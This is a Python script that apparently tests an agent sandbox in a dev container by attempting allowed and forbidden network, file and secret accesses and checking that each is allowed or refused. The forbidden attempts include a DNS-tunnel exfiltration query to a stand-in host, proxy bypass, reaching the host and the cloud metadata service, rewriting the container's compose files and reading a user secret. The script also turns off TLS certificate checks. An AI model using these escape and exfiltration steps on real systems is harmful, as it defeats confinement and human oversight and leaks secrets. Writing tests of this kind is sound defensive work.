# ruff: noqa: T201, S323, PTH123 - a program for a terminal, in a container that has nothing but Python
"""Stands for an agent in a dev container: real attempts, each shown with what became of it, and why. Exits 1 if one came out otherwise
than it should. Needs nothing but Python, and uses no proxy variables where it says so."""

from __future__ import annotations

import os
import socket
import ssl
import sys
import urllib.error
import urllib.request
from collections.abc import Callable

COLOUR = bool(os.environ.get("DEMO_COLOUR"))
WITHOUT_PROXY = urllib.request.build_opener(
    urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=ssl._create_unverified_context())
)
WITH_PROXY = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ssl._create_unverified_context()))
wrong = 0


def paint(text: str, code: str) -> str:
    return f"\033[{code}m{text}\033[0m" if COLOUR else text


def step(expected: str, title: str, attempt: Callable[[], object]) -> None:
    """Make one attempt; the first line of what came of it is shown."""
    global wrong
    print("\n" + paint(title, "1"))
    try:
        outcome, said = "allowed", str(attempt())
    except urllib.error.HTTPError as error:
        outcome, said = "refused", error.read(300).decode("utf-8", "replace")
    except (OSError, KeyError) as error:
        outcome, said = "refused", f"{type(error).__name__}: {error}"
    print(
        f"  {paint(outcome, '32' if outcome == 'allowed' else '31')}  {said.strip().splitlines()[0][:200] if said.strip() else ''}"
    )
    if outcome != expected:
        wrong = 1
        print(paint(f"  this should have been {expected}", "31"))


def fetch(url: str, opener: urllib.request.OpenerDirector = WITH_PROXY) -> str:
    with opener.open(url, timeout=10) as answer:
        return f"{answer.status}, {len(answer.read())} bytes from {url}"


def connect(address: str, port: int) -> str:
    with socket.create_connection((address, port), 3):
        return f"connected to {address}:{port}"


def ask(server: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(
            b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x08c2VjcmV0\x06tunnel\x07example\x03org\x00\x00\x01\x00\x01",
            (server, 53),
        )
        return f"{len(sock.recv(512))} bytes of an answer"


def write(path: str) -> str:
    with open(path, "a", encoding="utf-8") as file:
        file.write("\n")
    return f"wrote to {path}"


gateway = os.environ.get("KAP_SIDECAR", "10.0.0.2:0").split(":")[0].rsplit(".", 1)
gateway_address = f"{gateway[0]}.{int(gateway[1]) - 1}"

step("allowed", "Fetch a page that kap.toml lists", lambda: fetch("https://www.example.com/"))
step(
    "allowed",
    "The same, by a tool that ignores proxy variables",
    lambda: fetch("https://www.example.com/", WITHOUT_PROXY),
)
step("refused", "Fetch a page that nobody listed", lambda: fetch("http://www.example.org/"))
step("refused", "The same without proxy variables", lambda: fetch("http://www.example.org/", WITHOUT_PROXY))
step("refused", "Connect to an address on the internet, past all proxies", lambda: connect("1.1.1.1", 443))
step("refused", "Ask a name server on the internet to carry a secret out in a name", lambda: ask("8.8.8.8"))
step(
    "refused",
    "Ask the engine's own name server to do that",
    lambda: socket.gethostbyname("c2VjcmV0.tunnel.example.org"),
)
step("refused", "Reach the host this container runs on", lambda: connect(gateway_address, 22))
step(
    "refused", "Ask the proxy for the cloud metadata service", lambda: fetch("http://169.254.169.254/latest/meta-data/")
)
step("refused", "Open a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
step(
    "refused",
    "Change the compose files that close this container",
    lambda: write("/workspace/.devcontainer/kap.overlay.yml"),
)
step("refused", "Read a secret of the person who started it", lambda: os.environ["DEMO_SECRET"])
step("allowed", "Reach the database of this project", lambda: fetch("http://db:5432/", WITHOUT_PROXY))
step("allowed", "Write to its own workspace", lambda: write("/workspace/result.txt"))
sys.exit(wrong)
